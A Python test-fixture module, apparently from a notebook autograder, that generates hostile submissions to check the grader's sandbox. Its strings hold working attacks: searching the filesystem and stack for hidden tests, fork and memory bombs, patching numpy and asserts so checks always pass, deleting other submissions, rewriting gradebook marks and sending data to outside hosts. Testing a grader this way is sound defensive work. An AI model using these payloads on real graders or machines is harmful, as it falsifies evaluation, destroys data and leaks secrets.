"""Submissions that attack the grader. Their code must run inside the sandbox only.

Bombs are bounded, and what deletes files looks for the demo's own, so that a mistake
costs a minute and not a disk.
"""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass

from grading.checking import exercises
from grading.editions import to_text
from grading.simulate.answers import (
    Points,
    answers_of,
    decorated,
    points_of,
    submission,
)
from grading.simulate.handing import Handed

READ = """
import gc, glob, itertools, os, sys
for folder in (".", "/course", "/home", "/root", "/srv", "/tmp"):
    paths = glob.iglob(f"{folder}/**/*", recursive=True)
    for path in itertools.islice(paths, 5000):
        if path.endswith((".py", ".ipynb", ".db")) and os.access(path, os.R_OK):
            text = open(path, errors="replace").read()
            if "HIDDEN" + " TESTS" in text or "submitted_notebook" in text:
                print(path, text)
frame = sys._getframe()
while frame:
    print({name: str(value)[:2000] for name, value in frame.f_locals.items()})
    frame = frame.f_back
print([s for s in gc.get_objects() if isinstance(s, str) and "HIDDEN" in s][:100])
"""
LOOP = "\nwhile True:\n    pass\n"
MEMORY = "hoard = [bytearray(2**26) for _ in range(2**9)]\n"
FORK = """
import os, time
for _ in range(9):
    os.fork()
time.sleep(60)
"""
EXIT = "import os\nos._exit(0)\n"
EQUAL = """
class Equal(float):
    __array_priority__ = 1e9

    def agree(self, *_):
        return self

    __eq__ = __ne__ = __lt__ = __le__ = __gt__ = __ge__ = agree
    __add__ = __radd__ = __sub__ = __rsub__ = __mul__ = __rmul__ = agree
    __truediv__ = __rtruediv__ = __abs__ = __getitem__ = __getattr__ = agree
    __hash__ = float.__hash__

    def __bool__(self):
        return True
"""
ANYTHING = """
def {exercise}(*args):
    return {value}
"""
NUMPY = """
import numpy as np
import cs231n_utils.checks as checks
np.allclose = np.array_equal = lambda *a, **k: True
np.testing.assert_allclose = lambda *a, **k: None
for name in ("expect", "agree", "gradients", "refuses", "alike", "run", "passed"):
    setattr(checks, name, lambda *a, **k: (0, 0))
    globals()[name] = getattr(checks, name)
"""
ASSERT = """
import ast
class NoChecks(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.Pass()

    def visit_Expr(self, node):
        return ast.Pass()

    def visit_Assign(self, node):
        return ast.Pass()
get_ipython().ast_transformers.append(NoChecks())
"""
FLOOD = """
import sys
for _ in range(3000):
    print("0123456789" * 10_000)
    sys.stderr.write("x" * 10_000)
"""
DELETE = """
import os, pathlib, shutil
for folder in (pathlib.Path.cwd(), *pathlib.Path.cwd().parents):
    if (folder / ".demo").exists():
        for path in folder.iterdir():
            shutil.rmtree(path, ignore_errors=True)
"""
GRADEBOOK = """
import pathlib, sqlite3
for folder in (pathlib.Path.cwd(), *pathlib.Path.cwd().parents):
    if (folder / ".demo").exists():
        for path in folder.rglob("gradebook.db"):
            with sqlite3.connect(path) as book:
                book.execute("UPDATE grade SET manual_score = 100")
"""
NETWORK = """
import socket
for place in (("127.0.0.1", 8888), ("1.1.1.1", 53), ("example.org", 80)):
    try:
        with socket.create_connection(place, timeout=1) as line:
            line.sendall(b"my hidden tests")
            print("sent to", place)
    except OSError as error:
        print(place, error)
"""


@dataclass(frozen=True)
class Hostile:
    """An attack, and what is right in the notebook beside it.

    Attributes
    ----------
    about : str
    code : str
        Goes into the cell of the last exercise.
    right : {"all", "others", "nothing"}
        Whether every exercise is answered, all but the last, or none.
    wrong : str
        What the functions of the other exercises return.
    """

    about: str
    code: str
    right: str = "all"
    wrong: str = ""


KINDS = {
    "reads-hidden-tests": Hostile("It looks for hidden tests everywhere.", READ),
    "endless-loop": Hostile("A cell never ends.", LOOP),
    "memory-bomb": Hostile("It asks for 32 GB.", MEMORY, "others"),
    "fork-bomb": Hostile("It starts 511 processes.", FORK, "others"),
    "exits": Hostile("It ends its process.", EXIT, "others"),
    "always-equal": Hostile(
        "Its results say that they equal anything.", EQUAL, "nothing", "Equal()"
    ),
    "patched-numpy": Hostile(
        "It replaces comparisons of numpy and of the checks.", NUMPY, "nothing", "0, 0"
    ),
    "patched-assert": Hostile(
        "It has IPython delete what tests assert.", ASSERT, "nothing", "0, 0"
    ),
    "output-flood": Hostile("It prints 300 MB.", FLOOD),
    "deletes-files": Hostile("It deletes the other submissions.", DELETE),
    "gradebook": Hostile("It writes marks into the gradebook.", GRADEBOOK, "nothing"),
    "network": Hostile("It sends what it knows to other machines.", NETWORK),
}


def hostile(name: str) -> Iterator[Handed]:
    """Yield every hostile submission to an assignment."""
    for kind, attack in KINDS.items():
        answers, deserves = _answers(name, attack)
        text = to_text(submission(name, answers))
        file = f"{name}.ipynb"
        yield Handed(f"hostile-{kind}", text.encode(), file, deserves, attack.about)


def _answers(name: str, attack: Hostile) -> tuple[dict[str, str], Points]:
    """Return the answers of a hostile submission, and what they deserve."""
    right, last = answers_of(name), exercises(name)[-1]
    if attack.right == "all":
        return right | {last: right[last] + "\n\n" + attack.code}, points_of(name)
    if attack.right == "others":
        return right | {last: attack.code}, points_of(name, [last])
    return _wrong(name, attack), points_of(name, exercises(name))


def _wrong(name: str, attack: Hostile) -> dict[str, str]:
    """Return answers that are worth nothing, the first with the attack before it."""
    first = exercises(name)[0]
    answers = {}
    for exercise in exercises(name) if attack.wrong else ():
        text = ANYTHING.format(exercise=exercise, value=attack.wrong).strip()
        answers[exercise] = decorated(name, exercise, text)
    return answers | {first: attack.code + "\n\n" + answers.get(first, "")}
